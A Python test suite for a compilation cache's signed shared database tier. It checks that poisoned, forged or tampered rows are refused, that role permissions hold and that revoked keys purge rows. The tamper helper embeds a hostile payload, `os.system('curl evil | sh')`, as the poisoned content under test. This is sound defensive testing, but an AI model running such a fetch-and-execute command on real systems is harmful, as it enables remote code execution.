"""A shared tier no one can poison: Ed25519-signed rows, safe-by-default remote, real roles.

Real PostgreSQL (a fresh schema per test), real SQLite files, real signatures, rows from a
real Inductor cache directory; the attacker writes straight into the shared PostgreSQL.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import logging
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from cachedb import CacheDB, KeyConfigError
from cachedb.fingerprint import current as current_fingerprint
from cachedb.fleet import tier_sync as sync
from cachedb.fleet.copy import UnsignedInputError, copy_database, merge_databases
from cachedb.fleet.trust import (
    ACCEPTED,
    SIGNED_TABLES,
    TrustPolicy,
    row_message,
    signers,
)
from cachedb.live._remote import RemoteTier
from cachedb.live._store import LiveStore
from cachedb.store.payload import pack
from cachedb.store.signing import SigningKey, TrustedKeys

from .test_remote_tier import _fill_machine_a, _real_files, _timings_doc

CUTLASS_KEY = "e" * 64
CUTLASS_DATA = b'[{"op": "cutlass3x_sm90_tensorop_gemm_f16_f16_f32", "arch": 90}]'


def _trusting(*keys: SigningKey) -> TrustPolicy:
    return TrustPolicy(trusted=TrustedKeys([k.public_raw for k in keys]))


def _rows(location: str, sql: str) -> list[tuple]:
    db = CacheDB(location, upgrade=False)
    try:
        with db.engine.connect() as conn:
            return [tuple(r) for r in conn.execute(text(sql))]
    finally:
        db.close()


def _writer_fills(pg_url: str, tmp_path: Path, writer: SigningKey, real_cache: tuple[Path, dict]) -> dict:
    """Machine A, a trusted writer: every kind that carries code, pushed signed."""
    files = _real_files(real_cache[0])
    timings = _timings_doc(real_cache[0])
    a = LiveStore(str(tmp_path / "a.db"), remote=RemoteTier(pg_url, trust=TrustPolicy(signing_key=writer)))
    _fill_machine_a(a, files, timings)
    assert a.dynamo_put("pgo", "job_None_", b"pgo profile pickle")
    assert a.dynamo_put("precompile", "c" * 64, b"precompiled package pickle")
    with a.db.write() as repos:
        repos.cutlass.put(CUTLASS_KEY, CUTLASS_DATA, [], arch=90)
    a.push(sync.cutlass(CUTLASS_KEY))
    a.close()
    assert a.remote is not None and a.remote.counts["failures"] == 0 and a.remote.counts["signed_rows"] > 0
    return {"files": files, "timings": timings}


def _legit_entries(data: dict) -> list[sync.Entry]:
    files = data["files"]
    system_hash = current_fingerprint().system_hash
    op = next(iter(data["timings"]))
    return [
        sync.guarded("fxgraph", files["fxgraph"][0][0]),
        sync.guarded("aotautograd", files["aotautograd"][0][0]),
        sync.kernel("cpp", "host-a", files["cpp"][0][0]),
        sync.best_config(files["best_config"][0][0]),
        sync.dynamo("pgo", "job_None_"),
        sync.dynamo("precompile", "c" * 64),
        sync.cutlass(CUTLASS_KEY),
        sync.timings_of_op(system_hash, op),
    ]


def _renamed(bundle: sync.Bundle, tag: str) -> sync.Entry:
    """Move every row of ``bundle`` to a new natural key; the entry that finds them."""
    e = bundle.entry
    if e.kind == "guarded":
        new = f"{e.values[1][:40]}{tag}"
        for r in bundle.rows:
            r["key"] = new
        return sync.guarded(e.values[0], new)
    if e.kind == "kernel":
        new = f"{e.values[2][:40]}{tag}"
        for r in bundle.rows:
            r["key"] = new
        return sync.kernel(e.values[0], e.values[1], new)
    if e.kind in ("best_config", "pgo", "precompile"):
        new = f"zz/{tag}.best_config" if e.kind == "best_config" else f"{tag}{e.values[0][:20]}"
        for r in bundle.rows:
            r["key"] = new
        return sync.best_config(new) if e.kind == "best_config" else sync.dynamo(e.kind, new)
    if e.kind == "cutlass":
        new = f"{tag}{'f' * 40}"[:64]
        for r in bundle.rows:
            r["request_key"] = new
        bundle.ops = {new: ops for ops in bundle.ops.values()}
        return sync.cutlass(new)
    assert e.kind == "timings_op"
    new = f"{e.values[1]}_{tag}"
    for r in bundle.rows:
        r["op"] = new
    return sync.timings_of_op(e.values[0], new)


def _tamper(bundle: sync.Bundle) -> None:
    """Change what the rows hold after they were signed: a payload swapped with its stored
    trailer still claiming the signed checksum (what the fast read path checks), a kernel
    file pointed at another blob, a best config or timing edited."""
    evil = b"import os; os.system('curl evil | sh')"
    table = bundle.entry.table
    for r in bundle.rows:
        if "payload" in r:
            r["payload"] = pack(evil, digest=bytes.fromhex(r["checksum"])).blob
            r["size_bytes"] = len(evil)
        elif table == "kernel_artifacts":
            sha = hashlib.sha256(evil).hexdigest()
            r["sha256"] = sha
            bundle.blobs[sha] = {"sha256": sha, "payload": pack(evil).blob, "size_bytes": len(evil),
                                 "stored_bytes": len(pack(evil).blob), "created_at": r["created_at"]}
        elif table == "best_configs":
            r["content"] = r["content"].rstrip("}") + ', "evil": 1}'
        elif table == "autotune_timings":
            r["timing_ms"] = 0.0001


def _poison(pg_url: str, legit: sync.Entry, variant: str, writer: SigningKey, stranger: SigningKey,
            tag: str) -> sync.Entry:
    """An attacker with the shared database's URL inserts a poisoned copy of ``legit``."""
    db = CacheDB(pg_url, upgrade=False)
    try:
        with db.engine.connect() as conn:
            bundle = sync.fetch(conn, legit)
        assert bundle, legit
        bundle = copy.deepcopy(bundle)
        entry = _renamed(bundle, tag)
        table = bundle.entry.table
        for r in bundle.rows:
            if variant == "unsigned":
                r["ed25519_signature"] = None
            elif variant == "forged":
                r["ed25519_signature"] = f"{writer.key_id}:{base64.b64encode(os.urandom(64)).decode()}"
            elif variant == "stranger":
                r["ed25519_signature"] = stranger.sign(row_message(table, r))
            elif variant == "tampered":  # as if the writer had written this key; then it is edited
                r["ed25519_signature"] = writer.sign(row_message(table, r))
            # "replayed": the writer's signature of the original row, kept
        if variant == "tampered":
            _tamper(bundle)
        with db.engine.begin() as conn:
            sync.store(conn, bundle)
        return entry
    finally:
        db.close()


VARIANTS = ("unsigned", "replayed", "forged", "stranger", "tampered")


def test_poisoned_rows_of_every_kind_are_never_served(real_cache: tuple[Path, dict], tmp_path: Path,
                                                      pg_url: str) -> None:
    """Every kind that carries code, five ways to poison each (no signature, a signature
    replayed onto another key, a forged one, one by an untrusted key, content changed after
    signing), inserted straight into the shared PostgreSQL: a consumer holding the writer's
    public key takes none of it, through the remote tier and through copy/merge, and gets
    every legitimate entry."""
    writer, stranger = SigningKey.generate(), SigningKey.generate()
    data = _writer_fills(pg_url, tmp_path, writer, real_cache)
    legit = _legit_entries(data)
    tags = [f"poison{i:02d}" for i in range(len(legit) * len(VARIANTS))]
    poisoned = [(e, v, _poison(pg_url, e, v, writer, stranger, tags[i * len(VARIANTS) + j]))
                for i, e in enumerate(legit) for j, v in enumerate(VARIANTS)]
    assert len(poisoned) == 40

    consumer = RemoteTier(pg_url, trust=_trusting(writer))
    local = CacheDB(tmp_path / "consumer.db")
    try:
        served = [(e.kind, v) for e, v, p in poisoned if consumer.pull(p, local)]
        assert served == [], f"{len(served)} of {len(poisoned)} poisoned entries served: {served}"
        assert consumer.counts["refused_rows"] >= len(poisoned)
        assert all(consumer.pull(e, local) for e in legit)
    finally:
        consumer.close()
        local.close()
    # the consumer's file holds the legitimate rows only, each recorded under the writer's key
    c = str(tmp_path / "consumer.db")
    keys = {k for (k,) in _rows(c, "SELECT key FROM guarded_entries")}
    assert keys == {e.values[1] for e in legit if e.kind == "guarded"}
    assert {o for (o,) in _rows(c, "SELECT DISTINCT origin FROM row_origins")} == {f"key:{writer.key_id}"}
    held = [k for sql in ("SELECT key FROM kernel_artifacts", "SELECT key FROM best_configs",
                          "SELECT key FROM pgo_profiles", "SELECT key FROM dynamo_packages",
                          "SELECT request_key FROM cutlass_op_lists", "SELECT DISTINCT op FROM autotune_timings")
            for (k,) in _rows(c, sql)]
    assert held and not [k for k in held if "poison" in k]
    # through the live store's read paths too: a poisoned FX graph is a miss
    store = LiveStore(str(tmp_path / "live.db"), remote=RemoteTier(pg_url, trust=_trusting(writer)))
    try:
        for e, _, p in poisoned:
            if e.kind == "guarded":
                assert list(store.guarded_candidates(*p.values)) == []
            elif e.kind == "best_config":
                assert store.best_config_get(p.values[0]) is None
            elif e.kind in ("pgo", "precompile"):
                assert store.dynamo_get(e.kind, p.values[0]) is None
            elif e.kind == "cutlass":
                assert store.cutlass_get(p.values[0]) is None
        files = data["files"]
        key, variant, content = files["fxgraph"][0]
        assert dict(store.guarded_candidates("fxgraph", key))[variant] == content
        assert store.best_config_get(files["best_config"][0][0]) == files["best_config"][0][2]
    finally:
        store.close()

    # copy and merge out of the poisoned database refuse it whole: nothing written
    trusted = TrustedKeys([writer.public_raw])
    with pytest.raises(UnsignedInputError, match="carry no signature a trusted key verifies"):
        copy_database(pg_url, tmp_path / "copied.db", require_signed=True, trusted=trusted)
    assert not (tmp_path / "copied.db").exists()
    target = CacheDB(tmp_path / "merged.db")
    target.close()
    with pytest.raises(UnsignedInputError):
        merge_databases([pg_url], tmp_path / "merged.db", require_signed=True, trusted=trusted)
    assert _rows(str(tmp_path / "merged.db"), "SELECT count(*) FROM guarded_entries") == [(0,)]


def test_a_signed_database_copies_and_its_signers_are_recorded(real_cache: tuple[Path, dict],
                                                                tmp_path: Path) -> None:
    """``cachedb fleet sign`` signs a writer's own file; ``copy --require-signed`` takes it
    and records every row's signer in the machine's file; ``fleet signers`` counts them."""
    files = _real_files(real_cache[0])
    own = LiveStore(str(tmp_path / "own.db"))
    _fill_machine_a(own, files, _timings_doc(real_cache[0]))
    own.close()
    key_file = tmp_path / "writer.pem"
    env = {**os.environ, "CACHEDB_SIGNING_KEY": str(key_file)}
    subprocess.run([sys.executable, "-m", "cachedb", "fleet", "keygen", "--out", str(key_file)], check=True,
                   capture_output=True, text=True)
    public = Path(f"{key_file}.pub").read_text().strip()
    assert oct(key_file.stat().st_mode & 0o777) == "0o600"
    proc = subprocess.run([sys.executable, "-m", "cachedb", "--db", str(tmp_path / "own.db"), "fleet", "sign"],
                          env=env, capture_output=True, text=True)
    assert proc.returncode == 0 and "ok: signed" in proc.stdout, proc.stderr
    trusted = TrustedKeys.load(public)
    report = copy_database(tmp_path / "own.db", tmp_path / "machine.db", require_signed=True, trusted=trusted)
    assert report.tables
    kid = next(iter(trusted.ids))
    origins = _rows(str(tmp_path / "machine.db"), "SELECT table_name, origin FROM row_origins")
    assert {o for _, o in origins} == {f"key:{kid}"}
    assert {t for t, _ in origins} >= {"guarded_entries", "kernel_artifacts", "best_configs", "autotune_timings"}
    db = CacheDB(tmp_path / "machine.db")
    with db.engine.connect() as conn:
        counted = {t: signers(conn, t, trusted) for t in SIGNED_TABLES}
    db.close()
    assert counted["guarded_entries"] == {f"{kid} (trusted)": len(files["fxgraph"]) + len(files["aotautograd"])}
    proc = subprocess.run([sys.executable, "-m", "cachedb", "verify", "--remote", str(tmp_path / "machine.db"),
                           "--format", "json"], env={**os.environ, "CACHEDB_TRUSTED_KEYS": public},
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    # a row added afterwards without a signature makes verify --remote fail
    with CacheDB(tmp_path / "machine.db") as db2, db2.write() as repos:
        repos.best_configs.put("zz/unsigned.best_config", '{"XBLOCK": 8, "num_warps": 1, "num_stages": 1}')
    proc = subprocess.run([sys.executable, "-m", "cachedb", "verify", "--remote", str(tmp_path / "machine.db")],
                          env={**os.environ, "CACHEDB_TRUSTED_KEYS": public}, capture_output=True, text=True)
    assert proc.returncode == 1 and "unsigned" in proc.stdout


def test_a_remote_without_trust_is_not_read(tmp_path: Path, pg_url: str, caplog: pytest.LogCaptureFixture,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Safe by default: with no trusted keys and no CACHEDB_REMOTE_TRUST the remote is not
    asked (one warning that says how to configure trust); this machine's entries still go to
    it, and its own file is served as ever."""
    for name in ("CACHEDB_TRUSTED_KEYS", "CACHEDB_REMOTE_TRUST", "CACHEDB_SIGNING_KEY"):
        monkeypatch.delenv(name, raising=False)
    a = LiveStore(str(tmp_path / "a.db"), remote=RemoteTier(pg_url, trust=TrustPolicy(accept_unsigned=True)))
    a.best_config_put("ab/one.best_config", b'{"XBLOCK": 64, "num_warps": 4, "num_stages": 1}')
    a.close()
    tier = RemoteTier(pg_url)
    b = LiveStore(str(tmp_path / "b.db"), remote=tier)
    try:
        with caplog.at_level(logging.WARNING, logger="cachedb.live"):
            assert b.best_config_get("ab/one.best_config") is None
            assert b.best_config_get("cd/two.best_config") is None
        warnings = [r.getMessage() for r in caplog.records if "nothing says whose to trust" in r.getMessage()]
        assert len(warnings) == 1 and "CACHEDB_TRUSTED_KEYS" in warnings[0] and "CACHEDB_REMOTE_TRUST=1" in warnings[0]
        assert tier.counts["pull"] == 0
        b.best_config_put("ef/own.best_config", b'{"XBLOCK": 32, "num_warps": 2, "num_stages": 1}')
        assert b.best_config_get("ef/own.best_config") is not None
    finally:
        b.close()
    assert ("ef/own.best_config",) in _rows(pg_url, "SELECT key FROM best_configs")


def test_a_removed_key_or_trust_turned_off_removes_what_it_let_in(tmp_path: Path, pg_url: str,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows pulled under a key are served while the key is trusted; a live store opened with
    that key removed deletes them (misses, then replaced by what trusted writers hold). Rows
    taken unsigned under CACHEDB_REMOTE_TRUST=1 go the same way once it is off."""
    for name in ("CACHEDB_TRUSTED_KEYS", "CACHEDB_REMOTE_TRUST", "CACHEDB_SIGNING_KEY"):
        monkeypatch.delenv(name, raising=False)
    old, new = SigningKey.generate(), SigningKey.generate()
    content = b'{"XBLOCK": 64, "num_warps": 4, "num_stages": 1}'
    a = LiveStore(str(tmp_path / "a.db"), remote=RemoteTier(pg_url, trust=TrustPolicy(signing_key=old)))
    a.best_config_put("ab/k.best_config", content)
    a.close()
    b_path = str(tmp_path / "b.db")
    b = LiveStore(b_path, remote=RemoteTier(pg_url, trust=_trusting(old, new)))
    assert b.best_config_get("ab/k.best_config") == content
    b.close()
    assert _rows(b_path, "SELECT origin FROM row_origins") == [(f"key:{old.key_id}",)]
    monkeypatch.setenv("CACHEDB_TRUSTED_KEYS", new.public_line())  # the old key rotated out
    b = LiveStore(b_path, remote=RemoteTier(pg_url, trust=_trusting(new)))
    try:
        assert b.best_config_get("ab/k.best_config") is None  # gone locally; the remote's is old-signed
        assert _rows(b_path, "SELECT count(*) FROM best_configs") == [(0,)]
        assert _rows(b_path, "SELECT count(*) FROM row_origins") == [(0,)]
    finally:
        b.close()
    # unsigned rows taken under CACHEDB_REMOTE_TRUST=1
    c_path = str(tmp_path / "c.db")
    c = LiveStore(c_path, remote=RemoteTier(pg_url, trust=TrustPolicy(accept_unsigned=True)))
    assert c.best_config_get("ab/k.best_config") == content
    c.close()
    assert _rows(c_path, "SELECT origin FROM row_origins") == [(ACCEPTED,)]
    c = LiveStore(c_path)  # no remote, no trust in the environment
    try:
        assert c.best_config_get("ab/k.best_config") is None
    finally:
        c.close()


def _as_role(url: str, role: str) -> str:
    return make_url(url).set(username=role).render_as_string(hide_password=False)


def test_a_read_only_consumer_gets_every_hit_and_its_writes_stay_local(tmp_path: Path, pg_url: str,
                                                                        caplog: pytest.LogCaptureFixture) -> None:
    """``cachedb fleet grant`` makes real roles: the writer role pushes signed rows; a consumer
    logged in with the reader role gets them, and its own writes are refused by the server
    (one warning) and stay in its local file."""
    tag = uuid.uuid4().hex[:8]
    reader, writer_login = f"cdb_r_{tag}", f"cdb_w_{tag}"
    groups = (f"cdb_readers_{tag}", f"cdb_writers_{tag}")
    subprocess.run([sys.executable, "-m", "cachedb", "--db", pg_url, "init"], check=True, capture_output=True)
    proc = subprocess.run([sys.executable, "-m", "cachedb", "--db", pg_url, "fleet", "grant", "--reader", reader,
                           "--writer", writer_login, "--reader-role", groups[0], "--writer-role", groups[1]],
                          capture_output=True, text=True)
    try:
        assert proc.returncode == 0, proc.stderr
        key = SigningKey.generate()
        content = b'{"XBLOCK": 128, "num_warps": 8, "num_stages": 1}'
        a = LiveStore(str(tmp_path / "a.db"),
                      remote=RemoteTier(_as_role(pg_url, writer_login), trust=TrustPolicy(signing_key=key)))
        a.best_config_put("ab/w.best_config", content)
        assert a.dynamo_put("precompile", "d" * 64, b"package")
        a.close()
        assert a.remote is not None and a.remote.counts["failures"] == 0
        tier = RemoteTier(_as_role(pg_url, reader), trust=_trusting(key))
        b = LiveStore(str(tmp_path / "b.db"), remote=tier)
        try:
            assert b.best_config_get("ab/w.best_config") == content
            assert b.dynamo_get("precompile", "d" * 64) == b"package"
            with caplog.at_level(logging.WARNING, logger="cachedb.live"):
                b.best_config_put("cd/r.best_config", content)
                assert tier.flush(10)
            assert b.best_config_get("cd/r.best_config") == content  # kept locally
        finally:
            b.close()
        refused = [r.getMessage() for r in caplog.records if "write failed" in r.getMessage()]
        assert len(refused) == 1 and "permission denied" in refused[0].lower()
        assert ("cd/r.best_config",) not in _rows(pg_url, "SELECT key FROM best_configs")
        # the reader cannot insert even by hand
        engine = create_engine(_as_role(pg_url, reader))
        try:
            with pytest.raises(Exception, match="permission denied"), engine.begin() as conn:
                conn.execute(text("INSERT INTO best_configs (key, content, created_at, updated_at) "
                                  "VALUES ('x/y.best_config', '{}', now(), now())"))
        finally:
            engine.dispose()
    finally:
        admin = create_engine(pg_url)
        with admin.begin() as conn:
            for role in (reader, writer_login, *groups):
                conn.execute(text(f'DROP OWNED BY "{role}"')) if _role_exists(conn, role) else None
                conn.execute(text(f'DROP ROLE IF EXISTS "{role}"'))
        admin.dispose()


def _role_exists(conn, role: str) -> bool:  # type: ignore[no-untyped-def]
    return conn.execute(text("SELECT 1 FROM pg_roles WHERE rolname = :r"), {"r": role}).first() is not None


def test_keys_load_from_pem_files_and_inline_and_bad_ones_are_named(tmp_path: Path) -> None:
    """Keys made by openssl (PEM) or ``cachedb fleet keygen`` load; an entry that is not an
    Ed25519 public key is a KeyConfigError naming it."""
    key = SigningKey.generate()
    pem = tmp_path / "w.pem"
    pem.write_text(key.private_pem())
    assert SigningKey.load(str(pem)).key_id == key.key_id
    if shutil.which("openssl"):
        subprocess.run(["openssl", "genpkey", "-algorithm", "ed25519", "-out", str(tmp_path / "o.pem")], check=True)
        subprocess.run(["openssl", "pkey", "-in", str(tmp_path / "o.pem"), "-pubout", "-out", str(tmp_path / "o.pub")],
                       check=True)
        signed = SigningKey.load(str(tmp_path / "o.pem"))
        keys = TrustedKeys.load(f"{tmp_path / 'o.pub'},{key.public_line()}")
        assert keys.ids == {signed.key_id, key.key_id}
        assert keys.verify(signed.sign(b"m"), b"m") == signed.key_id
    with pytest.raises(KeyConfigError, match="not-a-key"):
        TrustedKeys.load("not-a-key")
    with pytest.raises(KeyConfigError, match="CACHEDB_SIGNING_KEY"):
        SigningKey.load("bm90IGEga2V5")


_FIELD = st.one_of(st.none(), st.text(max_size=20), st.integers(-10**12, 10**12), st.booleans())


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(t for t in SIGNED_TABLES if t != "kernel_artifacts")), st.data())
def test_a_signature_covers_every_signed_field(table: str, data: st.DataObject) -> None:
    """Changing any field a table's signature covers makes the signature fail; the same row
    verifies under the writer's key and under no other."""
    writer, other = SigningKey.generate(), SigningKey.generate()
    row: dict = {}
    for name in SIGNED_TABLES[table]:
        if name == "fp":
            row["fp"] = {"fingerprint_key": data.draw(st.text(min_size=1, max_size=64))}
        elif name == "content":
            row["content"] = data.draw(st.text(max_size=50))
        elif name == "timing_ms":
            row["timing_ms"] = data.draw(st.floats(allow_nan=False, allow_infinity=False))
        elif name == "recorded_at":
            import datetime as dt

            row["recorded_at"] = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc) + dt.timedelta(
                microseconds=data.draw(st.integers(0, 10**12)))
        else:
            row[name] = data.draw(_FIELD)
    row["ed25519_signature"] = writer.sign(row_message(table, row))
    assert _trusting(writer).signer_of(table, row) == writer.key_id
    assert _trusting(other).signer_of(table, row) is None
    name = data.draw(st.sampled_from(SIGNED_TABLES[table]))
    changed = copy.deepcopy(row)
    if name == "fp":
        changed["fp"] = {"fingerprint_key": row["fp"]["fingerprint_key"] + "x"}
    elif name == "timing_ms":
        import math

        # the next float up (adding 1.0 changes nothing at 2**53 and above)
        changed["timing_ms"] = math.nextafter(row["timing_ms"], math.inf) if abs(row["timing_ms"]) < 1e300 else 0.0
    elif name == "recorded_at":
        import datetime as dt

        changed["recorded_at"] = row["recorded_at"] + dt.timedelta(microseconds=1)
    else:
        changed[name] = f"{row[name]}x" if row[name] is not None else "x"
    assert _trusting(writer).signer_of(table, changed) is None


def test_a_revoked_key_removes_rows_of_every_kind(real_cache: tuple[Path, dict], tmp_path: Path, pg_url: str) -> None:
    """Every kind pulled under a key (FX graph and AOTAutograd variants, kernel files, best
    configs, Dynamo's caches, CUTLASS op lists, timings) is deleted from the machine's file by
    the sweep of a trust that no longer holds the key; what the machine wrote itself stays."""
    from cachedb.fleet.trust import stale_origins, sweep

    writer, other = SigningKey.generate(), SigningKey.generate()
    data = _writer_fills(pg_url, tmp_path, writer, real_cache)
    legit = _legit_entries(data)
    local = CacheDB(tmp_path / "machine.db")
    with local.write() as repos:  # the machine's own row
        repos.best_configs.put("zz/own.best_config", '{"XBLOCK": 8, "num_warps": 1, "num_stages": 1}')
    consumer = RemoteTier(pg_url, trust=_trusting(writer, other))
    try:
        assert all(consumer.pull(e, local) for e in legit)
    finally:
        consumer.close()
    tables = ("guarded_entries", "kernel_artifacts", "best_configs", "pgo_profiles", "dynamo_packages",
              "cutlass_op_lists", "autotune_run_timings")
    before = {t: _rows(str(tmp_path / "machine.db"), f"SELECT count(*) FROM {t}")[0][0] for t in tables}
    assert all(before.values()), before
    with local.write() as repos:
        assert stale_origins(repos.session, _trusting(writer, other)) == []
        assert stale_origins(repos.session, _trusting(other)) == [f"key:{writer.key_id}"]
        deleted = sweep(repos.session, _trusting(other))
    local.close()
    after = {t: _rows(str(tmp_path / "machine.db"), f"SELECT count(*) FROM {t}")[0][0] for t in tables}
    assert after == {**{t: 0 for t in tables}, "best_configs": 1}, after
    assert deleted == sum(before.values()) - 1
    assert _rows(str(tmp_path / "machine.db"), "SELECT key FROM best_configs") == [("zz/own.best_config",)]
    assert _rows(str(tmp_path / "machine.db"), "SELECT count(*) FROM row_origins") == [(0,)]
